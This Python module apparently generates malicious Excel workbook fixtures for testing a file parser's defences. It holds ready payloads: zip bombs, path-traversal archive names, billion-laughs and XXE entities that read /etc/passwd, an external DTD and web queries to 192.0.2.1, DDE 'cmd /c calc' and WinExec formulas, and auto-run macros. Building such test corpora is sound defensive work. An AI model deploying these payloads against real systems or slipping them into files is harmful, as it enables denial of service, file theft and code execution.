"""Workbooks made to do harm, one generator for each class: it yields the variant and its bytes.

None of them is read from anywhere: every one is made here from the small workbook of `base`, so that what
is refused is refused for what was planted.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from typing import TYPE_CHECKING

from .base import changed, parts_of, replaced, sheet_part, workbook, zipped

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Variants = Iterator[tuple[str, bytes]]

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = sheet_part("Tabel 3.9")
STRINGS, STYLES, BOOK = "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"
BOOK_RELS, TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"


def xml_parts() -> list[str]:
    return [name for name in parts_of(workbook()) if name.endswith((".xml", ".rels", ".vml"))]


def rows(content: str, *, before: str = "", after: str = "") -> bytes:
    """Return the workbook with another content in the sheet Sampul, its tables untouched."""
    page = f'<worksheet xmlns="{MAIN}" xmlns:r="{RELS}">{before}<sheetData>{content}</sheetData>{after}</worksheet>'
    return changed(**{sheet_part("Sampul"): page.encode()})


# -- the archive --------------------------------------------------------------------------


def bombs() -> Variants:
    """Yield members that unpack to many times their size."""
    for part in (SHEET, STRINGS, STYLES, "xl/media/image1.png", "xl/vbaProject.bin"):
        for megabytes in (20, 200):
            yield f"{part} {megabytes} MB of zeros", changed(**{part: bytes(megabytes * 2**20)})
    spaces = b" " * (100 * 2**20)
    xml = parts_of(workbook())[SHEET].replace(b"<sheetData>", b"<sheetData>" + spaces)
    yield "100 MB of blanks in a sheet", changed(**{SHEET: xml})
    yield (
        "many parts of 15 MB, each below the look at ratios",
        changed(**{f"xl/media/image{at}.png": bytes(15 * 2**20) for at in range(2, 60)}),
    )
    page = parts_of(workbook())[sheet_part("Sampul")].replace(
        b"<sheetData>", b"<sheetData>" + b"<!-- -->" * (15 * 2**17)
    )
    yield "forty sheets of 15 MB of comments", with_sheets([page] * 40)


def with_sheets(pages: list[bytes]) -> bytes:
    """Return the workbook with more sheets."""
    parts = parts_of(workbook())
    links, tabs = "", ""
    for at, page in enumerate(pages, 100):
        parts[f"xl/worksheets/sheet{at}.xml"] = page
        links += f'<Relationship Id="m{at}" Type="{RELS}/worksheet" Target="worksheets/sheet{at}.xml"/>'
        tabs += f'<sheet name="L{at}" sheetId="{at}" r:id="m{at}"/>'
    parts[BOOK_RELS] = parts[BOOK_RELS].replace(b"</Relationships>", f"{links}</Relationships>".encode())
    parts[BOOK] = parts[BOOK].replace(b"</sheets>", f"{tabs}</sheets>".encode())
    return zipped(parts)


def nested() -> Variants:
    """Yield archives inside archives; nobody looks into them."""
    inner = zipped({"a.bin": bytes(30 * 2**20)})
    for depth in (1, 3, 8):
        for _ in range(depth):
            inner = zipped({f"{at}.zip": inner for at in range(10)})
        yield f"{depth} deep", changed(**{"xl/embeddings/a.zip": inner})


def overlapping() -> Variants:
    """Yield directories whose entries share one stretch of data."""
    data = workbook()
    entries = []
    at = data.index(b"PK\1\2")
    while data[at : at + 4] == b"PK\1\2":
        entries.append(at)
        at += 46 + sum(struct.unpack_from("<3H", data, at + 28))
    for one in range(1, len(entries), 4):
        copy = bytearray(data)
        copy[entries[one] + 42 : entries[one] + 46] = copy[entries[0] + 42 : entries[0] + 46]
        yield f"entry {one} is that of the first", bytes(copy)
        copy = bytearray(data)
        offset = struct.unpack_from("<I", copy, entries[one] + 42)[0] - 30
        struct.pack_into("<I", copy, entries[one] + 42, max(0, offset))
        yield f"entry {one} begins in the one before", bytes(copy)
        copy = bytearray(data)
        struct.pack_into("<I", copy, entries[one] + 20, len(data))
        yield f"entry {one} reaches to the end", bytes(copy)
    yield "many entries on one kernel", _kernel(2000)


def _kernel(entries: int) -> bytes:
    """Return an archive of entries that all unpack the same bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(4 * 2**20)
    packed = packer.compress(content) + packer.flush()
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, zlib.crc32(content), len(packed), len(content), 1, 0
    )
    body = local + b"a" + packed
    directory = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, zlib.crc32(content), len(packed),
                    len(content), 1, 0, 0, 0, 0, 0, 0) + bytes([97 + at % 26])
        for at in range(entries)
    )  # fmt: skip
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(directory), len(body), 0)
    return body + directory + end


def members() -> Variants:
    """Yield archives of very many members."""
    for count in (5_000, 9_000, 20_000, 65_000):
        parts = parts_of(workbook()) | {f"xl/x/{at}.bin": b"" for at in range(count)}
        yield f"{count} empty members", zipped(parts, zipfile.ZIP_STORED)


def names() -> Variants:
    """Yield members whose names lead elsewhere, or that have one name."""
    for name in (
        "../evil.xml", "xl/../../evil.xml", "/etc/passwd", "//etc/passwd", "C:/evil.xml", "C:\\evil.xml",
        "xl\\..\\..\\evil.xml", "\\\\server\\share", "xl//evil.xml", "xl/./a.xml", "xl/a\nb.xml", "xl/\x1b[2J.xml",
        "XL/Workbook.XML", "xl/workbook.xml", "xl/workbook.xml ", "XL/STYLES.XML", "~/.ssh/x", "xl/\u202elmx.xml", "",
        "con", "aux.xml", "a" * 60_000,
    ):  # fmt: skip
        buffer = io.BytesIO()
        with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
            warnings.simplefilter("ignore")
            for each, content in parts_of(workbook()).items():
                archive.writestr(each, content)
            info = zipfile.ZipInfo()
            info.filename = name
            archive.writestr(info, "<x/>")
        yield repr(name[:40]), buffer.getvalue()


def encrypted() -> Variants:
    """Yield locked workbooks."""
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
    yield "OLE with EncryptedPackage", ole + "EncryptedPackage".encode("utf-16-le") + bytes(4096)
    data = workbook()
    at = data.index(b"PK\1\2")
    while data[at : at + 4] == b"PK\1\2":
        copy = bytearray(data)
        copy[at + 8] |= 1
        yield f"zip encryption of the entry at {at}", bytes(copy)
        at += 46 + sum(struct.unpack_from("<3H", data, at + 28))


# -- XML ------------------------------------------------------------------------------------


_LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
DOCTYPES = {
    "billion laughs": _LAUGHS + "]>",
    "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a "{"x" * 50_000}">]>',
    "external entity": '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>',
    "external DTD": '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
}


def entities() -> Variants:
    """Yield every XML part with each kind of entity declared and, where text may stand, used."""
    for part in xml_parts():
        content = parts_of(workbook())[part].decode()
        head, _, body = content.partition("?>") if content.startswith("<?xml") else ("", "", content)
        start = head + "?>" if head else ""
        use = "&i;" if "</" in body else ""
        at = body.rfind("</")
        for kind, doctype in DOCTYPES.items():
            entity = use.replace("i", "a") if kind == "quadratic blow-up" else use
            entity = entity * 1000 if kind == "quadratic blow-up" else entity
            entity = "" if kind in {"external DTD", "parameter entity"} else entity
            yield (
                f"{kind} in {part}",
                changed(**{part: (start + doctype + body[:at] + entity + body[at:]).encode()}),
            )


def nesting() -> Variants:
    """Yield every XML part with elements very deep in each other."""
    for part in xml_parts():
        content = parts_of(workbook())[part].decode()
        at = content.rfind("</")
        if at >= 0:
            for depth in (1_000, 20_000) if part in {SHEET, STYLES, STRINGS, TYPES} else (1_000,):
                deep = "<z>" * depth + "</z>" * depth
                yield (
                    f"{depth} deep in {part}",
                    changed(**{part: (content[:at] + deep + content[at:]).encode()}),
                )


def long_markup() -> Variants:
    """Yield tags, texts and names that are very long, and very many of the small ones."""
    content = parts_of(workbook())[SHEET].decode()
    at = content.index("<sheetData>")
    for what, piece in {
        "a tag of 2 MB": f'<a b="{"x" * 2**21}"/>',
        "200,000 attributes": "<a " + " ".join(f'a{n}=""' for n in range(200_000)) + "/>",
        "a comment of 20 MB": f"<!--{'x' * 20 * 2**20}-->",
        "a processing instruction of 20 MB": f"<?p {'x' * 20 * 2**20}?>",
        "CDATA of 20 MB": f"<a><![CDATA[{'x' * 20 * 2**20}]]></a>",
        "two million small comments": "<!-- -->" * 2_000_000,
        "400,000 elements": "<a/>" * 400_000,
        "3 million elements": "<a/>" * 3_000_000,
        "100,000 namespaces": "".join(f'<a xmlns:n{n}="u{n}"/>' for n in range(100_000)),
        "900 namespaces inside each other": "".join(f'<a xmlns:n{n}="u{n}">' for n in range(900))
        + "</a>" * 900,
    }.items():
        yield what, changed(**{SHEET: (content[:at] + piece + content[at:]).encode()})


# -- the sheet --------------------------------------------------------------------------------


def areas() -> Variants:
    """Yield sheets that claim, or refer to, far more than they hold."""
    yield "dimension of a whole sheet, no cell", rows("", before='<dimension ref="A1:XFD1048576"/>')
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    yield "cells in opposite corners", rows(far)
    yield "a million empty rows", rows("".join(f'<row r="{at}"/>' for at in range(1, 990_001)))
    yield "two million rows", rows("<row/>" * 2_000_000)
    wide = "".join(f'<c r="{_column(at)}1"><v>{at}</v></c>' for at in range(1, 16_385))
    yield "a row of 16,384 cells", rows(f'<row r="1">{wide}</row>')
    yield "more than a million cells", rows("".join(f"<row>{'<c/>' * 16_384}</row>" for _ in range(70)))
    yield (
        "columns over each other",
        rows("", before="<cols>" + '<col min="1" max="16384" width="9"/>' * 100_000 + "</cols>"),
    )
    for ref in ("A0", "A1048577", "XFE1", "ZZZZ1", "1A", "", "A1:B2", "R1C1", "A" * 1000, "A" + "9" * 5000):
        yield f"a cell called {ref[:12]!r}", rows(f'<row r="1"><c r="{ref}"><v>1</v></c></row>')
    for number in ("0", "-1", "1048577", "1e3", "٣", "9" * 5000, ""):
        yield f"a row called {number[:12]!r}", rows(f'<row r="{number}"><c><v>1</v></c></row>')
    for style in ("-1", "1e9", "4294967296", "٣", "9" * 5000):
        yield (
            f"a style called {style[:12]!r}",
            rows(f'<row r="1"><c r="A1" s="{style}"/><c s="{style}" r="B1"/></row>'),
        )


def _column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def merges() -> Variants:
    """Yield merged areas: very many, very large, over each other."""

    def merged(refs: list[str]) -> bytes:
        return rows(
            "", after="<mergeCells>" + "".join(f'<mergeCell ref="{ref}"/>' for ref in refs) + "</mergeCells>"
        )

    yield "one over the whole sheet", merged(["A1:XFD1048576"])
    yield "a million small ones", merged([f"A{at}:B{at}" for at in range(1, 1_000_001)])
    yield "400,000 small ones", merged([f"A{at}:B{at}" for at in range(1, 400_001)])
    yield "400,000 times the same", merged(["A1:B2"] * 400_000)
    yield (
        "10,000 of 20,000 cells over each other",
        merged([f"A{at}:A{at + 19_999}" for at in range(1, 10_001)]),
    )
    yield (
        "16,384 tall ones side by side",
        merged([f"{_column(at)}1:{_column(at)}60" for at in range(1, 16_385)]),
    )
    yield "100,000 over the whole sheet", merged([f"A{at}:XFD1048576" for at in range(1, 100_001)])
    yield "beyond the sheet", merged(["A1:XFE2", "A1:A1048577"])
    yield "no areas", merged(["", "A", "1:B", "A1:B2:C3"])
    columns = (
        "<cols>"
        + "".join(f'<col min="{at % 16384 + 1}" max="16384" width="9"/>' for at in range(50_000))
        + "</cols>"
    )
    refs = "".join(f'<mergeCell ref="A{at}:B{at}"/>' for at in range(1, 300_001))
    yield "300,000 under 50,000 columns", rows("", before=columns, after=f"<mergeCells>{refs}</mergeCells>")


def strings() -> Variants:
    """Yield shared strings and texts that are enormous, or that multiply."""
    head = f'<sst xmlns="{MAIN}">'
    items = parts_of(workbook())[STRINGS].decode()
    old = items[items.index("<si>") : items.rindex("</sst>")]
    plain = "".join(f"<si><t>teks {at}</t></si>" for at in range(3_000_000))
    yield "three million", changed(**{STRINGS: f"{head}{old}{plain}</sst>".encode()})
    yield "one of 900 kB", changed(**{STRINGS: f"{head}{old}<si><t>{'x' * 900_000}</t></si></sst>".encode()})
    yield "one of 2 MB", changed(**{STRINGS: f"{head}{old}<si><t>{'x' * 2**21}</t></si></sst>".encode()})
    runs = "<r><t>x</t></r>" * 400_000
    yield "one in 400,000 runs", changed(**{STRINGS: f"{head}{old}<si>{runs}</si></sst>".encode()})
    wide = "😀" + "<si><t>" + "a" * 30_000 + "</t></si>"
    yield (
        "60 MB of text with one wide letter",
        changed(**{STRINGS: f"{head}{old}{wide * 2000}</sst>".encode()}),
    )
    parts = parts_of(workbook())
    count = old.count("<si>")
    blank = " " + "x" * 30_000
    parts[STRINGS] = f"{head}{old}<si><t xml:space='preserve'>{blank}</t></si></sst>".encode()
    cells = "".join(f'<row><c t="s"><v>{count}</v></c></row>' for _ in range(400_000))
    parts[sheet_part("Sampul")] = (
        f'<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData></worksheet>'.encode()
    )
    yield "a text of 30,000 letters in 400,000 cells", zipped(parts)
    for index in ("-1", "999999999", "1.5", "x", "9" * 5000, ""):
        yield f"the index {index[:10]!r}", rows(f'<row r="1"><c r="A1" t="s"><v>{index}</v></c></row>')
    inline = "".join(f'<row><c t="inlineStr"><is><t>{"y" * 30_000}</t></is></c></row>' for _ in range(3_000))
    yield "3,000 inline texts of 30,000 letters", rows(inline)


def formulas() -> Variants:
    """Yield formulas that are long, deep, shared by many, or refer to themselves."""

    def sheet(formula: str, *, more: str = "") -> bytes:
        return rows(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c>{more}</row>')

    yield "8,000 brackets", sheet("(" * 8000 + "1" + ")" * 8000)
    yield "300,000 brackets", sheet("(" * 300_000 + "1" + ")" * 300_000)
    yield "40,000 functions in each other", sheet("IF(1," * 40_000 + "1" + ")" * 40_000)
    yield "200,000 terms", sheet("+".join(["A1"] * 200_000))
    yield "itself", sheet("A1+1")
    yield "half a string", sheet('"abc')
    yield "half a bracket", sheet("[" * 5000 + "x")
    yield "signs", sheet("-" * 100_000 + "1")
    shared = "".join('<row><c><f t="shared" si="0"/><v>1</v></c></row>' for _ in range(200_000))
    master = (
        f'<row r="1"><c r="A1"><f t="shared" ref="A1:A200001" si="0">{"A1+" * 2500}1</f><v>1</v></c></row>'
    )
    yield "7,500 letters shared by 200,000 cells", rows(master + shared)
    yield "shared without a master", rows('<row r="1"><c r="A1"><f t="shared" si="9"/><v>1</v></c></row>')
    arrays = "".join('<row><c><f t="array" ref="A1:XFD1048576">1</f></c></row>' for _ in range(50_000))
    yield "50,000 arrays over the whole sheet", rows(arrays)
    book = parts_of(workbook())[BOOK].decode()
    defined = "".join(f'<definedName name="n{at}">n{at + 1}*2</definedName>' for at in range(100_000))
    yield (
        "100,000 names that mean each other",
        changed(**{BOOK: book.replace("<definedNames>", f"<definedNames>{defined}").encode()}),
    )
    cells = "".join(
        f'<c r="{_column(at)}3"><f>{_column(at + 1)}3+{_column(at + 1)}3</f></c>' for at in range(20, 2000)
    )
    yield (
        "2,000 formulas that depend on each other",
        replaced(SHEET, '</row><row r="4"', f'{cells}</row><row r="4"'),
    )


def looks() -> Variants:
    """Yield styles, formats and rules in numbers, and ones made to keep a pattern busy."""
    styles = parts_of(workbook())[STYLES].decode()
    yield (
        "300,000 cell formats",
        changed(
            **{STYLES: styles.replace("</cellXfs>", '<xf numFmtId="0"/>' * 300_000 + "</cellXfs>").encode()}
        ),
    )
    for what, code in {
        "repeated brackets": "[" * 100_000, "repeated quotes": "&quot;" * 50_001, "escapes": "\\" * 100_001,
        "sections": ";" * 200_000, "zeros": "0" * 300_000, "percent signs": "%" * 300_000, "dates": "d" * 300_000,
        "digits": "0." + "0" * 300_000 + "%",
    }.items():  # fmt: skip
        formats = f'<numFmts count="1"><numFmt numFmtId="200" formatCode="{code}"/></numFmts><fonts'
        text = styles.replace("<fonts", formats, 1).replace('<xf numFmtId="0"', '<xf numFmtId="200"')
        yield f"a number format of {what}", changed(**{STYLES: text.encode()})
    rules = '<conditionalFormatting sqref="{}"><cfRule type="expression" priority="1"><formula>1</formula></cfRule></conditionalFormatting>'
    content = parts_of(workbook())[SHEET].decode()
    at = content.index("<conditionalFormatting")
    for what, piece in {
        "100,000 conditional formats": rules.format("A1:A9") * 100_000,
        "one format over 130,000 areas": rules.format("A1 " * 130_000),
        "100,000 validations": "<dataValidations>"
        + '<dataValidation sqref="A1"/>' * 100_000
        + "</dataValidations>",
        "areas that are none": rules.format("A1:" * 1000),
    }.items():
        yield what, changed(**{SHEET: (content[:at] + piece + content[at:]).encode()})


def tables() -> Variants:
    """Yield sheets full of what looks like annex tables, captions and numbers."""

    def filled(lines: list[tuple[str, ...]]) -> bytes:
        cells = "".join(
            "<row>" + "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in line) + "</row>"
            for line in lines
        )
        return rows(cells)

    head = ("No", "Sasaran", "Indikator Kinerja", "Target", "Realisasi", "Capaian %", "Kategori")
    body = ("1", "Sasaran satu", "Indikator satu", "80", "90", "112,5", "Baik")
    yield "5,000 captions", filled([("Tabel 3.2 Hasil Pengukuran Kinerja Tahun 2024",)] * 5_000)
    yield "2,000 tables under each other", filled([("Tabel 3.2 Pengukuran",), head, body] * 2_000)
    yield "20,000 headings", filled([head] * 20_000)
    yield (
        "one table of 20,000 indicators",
        filled([head, *((str(n), f"S {n}", f"Indikator {n}", "80", "90", "", "") for n in range(20_000))]),
    )
    yield "one table of 20,000 alike indicators", filled([head, *([body] * 20_000)])
    yield (
        "a table of 3,000 columns",
        filled([tuple(f"Target {2000 + at % 100}" for at in range(3_000)), ("1",) * 3_000]),
    )
    wide = tuple("Indikator Kinerja" for _ in range(16_000))
    yield "16,000 times one heading", filled([wide, wide])
    for what, text in LONG_TEXTS.items():
        yield f"a cell of {what}", filled([head, ("1", text, text, text, text, text, text), (text, text)])


#: Texts of the longest that a cell can hold, made to keep a pattern busy.
LONG_TEXTS = {
    "digits": "1" * 32_000, "points": "1." * 16_000, "commas": ",1" * 16_000, "groups": "1.111" * 6_000,
    "spaces": "1" + " " * 32_000 + "x", "a bracket and spaces": "(" + " " * 32_000 + "x",
    "words far apart": "tahun" + " " * 16_000 + "jumlah" + " " * 16_000 + "x", "brackets": "(" * 32_000, "open and shut": "()" * 16_000,
    "currency": "Rp. " * 8_000, "minus signs": "-" * 32_000, "numbers and words": "12 Dokumen, " * 2_600,
    "ranges": "1-" * 16_000, "years": "2024 " * 6_400, "quarters": "triwulan " * 3_500, "roman": "i" * 32_000,
    "letters of a list": "a. " * 10_000, "percent": "%" * 32_000, "comparisons": "≥" * 32_000,
    "powers": "1e5" * 10_000, "tabel": "Tabel 3." * 4_000, "newlines": "a\n" * 16_000, "dots": "." * 32_000,
    "words": "Sasaran " * 4_000, "slashes": "/" * 32_000, "one letter and spaces": "a " * 16_000,
}  # fmt: skip


# -- relationships and types ----------------------------------------------------------------------


def relationships() -> Variants:
    """Yield relationships that lead round, nowhere, out, or are very many."""
    rels = parts_of(workbook())[BOOK_RELS].decode()

    def with_rel(kind: str, target: str, *, mode: str = "") -> bytes:
        outside = ' TargetMode="External"' if mode else ""
        link = f'<Relationship Id="z" Type="{RELS}/{kind}" Target="{target}"{outside}/></Relationships>'
        return changed(**{BOOK_RELS: rels.replace("</Relationships>", link).encode()})

    yield "a workbook in itself", with_rel("officeDocument", "workbook.xml")
    yield (
        "sheet and workbook in a circle",
        changed(
            **{
                f"xl/worksheets/_rels/{SHEET.rpartition('/')[2]}.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{RELS}/table" Target="../worksheets/{SHEET.rpartition("/")[2]}"/><Relationship Id="r2" Type="{RELS}/drawing" Target="../workbook.xml"/></Relationships>'.encode()
            }
        ),
    )
    for kind in ("sharedStrings", "styles", "theme", "worksheet"):
        for target in (
            "nowhere.xml",
            "../../../../etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "http://192.0.2.1/a",
            "workbook.xml",
            "",
            "%2e%2e/%2e%2e/x",
            "\\\\server\\a",
        ):
            changed_rels = _retargeted(rels, kind, target)
            yield f"{kind} leads to {target!r}", changed(**{BOOK_RELS: changed_rels.encode()})
        outside = _retargeted(rels, kind, "http://192.0.2.1/a", mode=' TargetMode="External"')
        yield f"{kind} lies outside", changed(**{BOOK_RELS: outside.encode()})
    yield (
        "200,000 relationships",
        changed(
            **{
                BOOK_RELS: rels.replace(
                    "</Relationships>",
                    "".join(
                        f'<Relationship Id="q{at}" Type="{RELS}/image" Target="a{at}"/>'
                        for at in range(200_000)
                    )
                    + "</Relationships>",
                ).encode()
            }
        ),
    )
    yield "one name twice", changed(**{BOOK_RELS: rels.replace("rId2", "rId1").encode()})
    main = parts_of(workbook())["_rels/.rels"].decode()
    for target in ("nowhere.xml", "xl/styles.xml", "../xl/workbook.xml", "", "xl/media/image1.png"):
        yield (
            f"the workbook is {target!r}",
            changed(
                **{"_rels/.rels": main.replace('Target="xl/workbook.xml"', f'Target="{target}"').encode()}
            ),
        )


def _retargeted(rels: str, kind: str, target: str, *, mode: str = "") -> str:
    begin = rels.index(f'/{kind}"')
    at = rels.index('Target="', begin) + 8
    end = rels.index('"', at)
    return rels[:at] + target + '"' + mode + rels[end + 1 :]


def outside_links() -> Variants:
    """Yield links to other programs and places: kept as they are, and never followed."""
    parts = parts_of(workbook())
    rels, book = parts[BOOK_RELS].decode(), parts[BOOK].decode()
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    for what, link in {
        "DDE": f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>',
        "OLE": f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><oleLink r:id="rId1" progId="Package"/></externalLink>',
        "another book": f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><externalBook r:id="rId1"/></externalLink>',
    }.items():
        new = {
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{RELS}/externalLinkPath" Target="\\\\192.0.2.1\\share\\a.xlsx" TargetMode="External"/></Relationships>'.encode(),
            BOOK_RELS: rels.replace(
                "</Relationships>",
                f'<Relationship Id="x1" Type="{RELS}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
            ).encode(),
            BOOK: book.replace(
                "<definedNames>",
                '<externalReferences><externalReference r:id="x1"/></externalReferences><definedNames>',
            ).encode(),
        }
        yield what, changed(**new)
    for formula in (
        "cmd|'/c calc'!A0",
        "HYPERLINK(&quot;http://192.0.2.1&quot;)",
        "WEBSERVICE(&quot;http://192.0.2.1&quot;)",
        "[1]Lain!A1",
        "'\\\\192.0.2.1\\a\\[b.xlsx]S'!A1",
        "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)",
        "EXEC(&quot;calc&quot;)",
    ):
        yield f"the formula {formula[:20]}", rows(f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>')
    for kind in ("attachedTemplate", "oleObject", "hyperlink", "image"):
        link = f'<Relationship Id="z" Type="{RELS}/{kind}" Target="http://192.0.2.1/x" TargetMode="External"/></Relationships>'
        yield f"a remote {kind}", changed(**{BOOK_RELS: rels.replace("</Relationships>", link).encode()})
    query = f'<connections xmlns="{MAIN}"><connection id="1" type="4"><webPr url="http://192.0.2.1/x"/></connection></connections>'
    yield (
        "a web query",
        changed(
            **{
                "xl/connections.xml": query.encode(),
                BOOK_RELS: rels.replace(
                    "</Relationships>",
                    f'<Relationship Id="z" Type="{RELS}/connections" Target="connections.xml"/></Relationships>',
                ).encode(),
            }
        ),
    )


def macros() -> Variants:
    """Yield macros, controls and embedded objects: kept, never run."""
    parts = parts_of(workbook())
    types = (
        parts[TYPES]
        .decode()
        .replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
    )
    rels = parts[BOOK_RELS].decode()
    link = '<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
    vba = {
        "xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + b'Attribut\0e VB_Nam\0e = "Auto_Open"' * 50
    }
    yield (
        "a macro",
        changed(**vba, **{TYPES: types.encode(), BOOK_RELS: rels.replace("</Relationships>", link).encode()}),
    )
    yield "a macro that no relationship names", changed(**vba)
    yield (
        "an ActiveX control",
        changed(**{"xl/activeX/activeX1.bin": b"\0" * 500, "xl/activeX/activeX1.xml": b"<x/>"}),
    )
    yield "an embedded program", changed(**{"xl/embeddings/oleObject1.bin": b"MZ" + bytes(5000)})
    yield (
        "a ribbon that calls a macro",
        changed(
            **{
                "customUI/customUI.xml": b'<customUI onLoad="x" xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'
            }
        ),
    )
    book = parts[BOOK].decode()
    name = '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Sampul!$A$1</definedName>'
    yield "a name that runs on opening", changed(**{BOOK: book.replace("<definedNames>", name).encode()})


def content_types() -> Variants:
    """Yield packages whose types are wrong, lacking, or those of another program."""
    types = parts_of(workbook())[TYPES].decode()
    yield "none at all", changed(**{TYPES: None})
    yield (
        "an empty list",
        changed(**{TYPES: b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'}),
    )
    yield "another namespace", changed(**{TYPES: types.replace("package/2006/content-types", "x").encode()})
    for name in ("worksheet+xml", "styles+xml", "sharedStrings+xml", "sheet.main+xml", "theme+xml"):
        for other in ("x-evil", "wordprocessingml.document.main+xml", ""):
            yield f"{name} is {other!r}", changed(**{TYPES: types.replace(name, other).encode()})
    binary = types.replace(
        "openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "ms-excel.sheet.binary.macroEnabled.main",
    )
    yield "the binary one", changed(**{TYPES: binary.encode()})
    yield (
        "200,000 entries",
        changed(
            **{
                TYPES: types.replace(
                    "</Types>", '<Override PartName="/a" ContentType="b"/>' * 200_000 + "</Types>"
                ).encode()
            }
        ),
    )
    yield (
        "a Word document",
        zipped(
            {
                TYPES: types.replace("spreadsheetml.sheet.main", "wordprocessingml.document.main").encode(),
                "_rels/.rels": parts_of(workbook())["_rels/.rels"].replace(
                    b"xl/workbook.xml", b"word/document.xml"
                ),
                "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            }
        ),
    )
    yield (
        "an OpenDocument text",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
    )
    yield "a Java archive", zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})


CLASSES: dict[str, Callable[[], Variants]] = {
    "zip bombs": bombs,
    "archives in archives": nested,
    "overlapping members": overlapping,
    "very many members": members,
    "names that lead elsewhere, or twice the same": names,
    "encrypted": encrypted,
    "entities and DTDs in every part": entities,
    "deep nesting in every part": nesting,
    "long and numerous markup": long_markup,
    "areas and references beyond reason": areas,
    "merged areas": merges,
    "shared strings and long texts": strings,
    "formulas": formulas,
    "styles, formats and rules": looks,
    "tables without end, texts for patterns": tables,
    "relationships: round, dangling, outward": relationships,
    "external links, DDE, remote templates": outside_links,
    "macros and embedded objects": macros,
    "wrong content types": content_types,
}
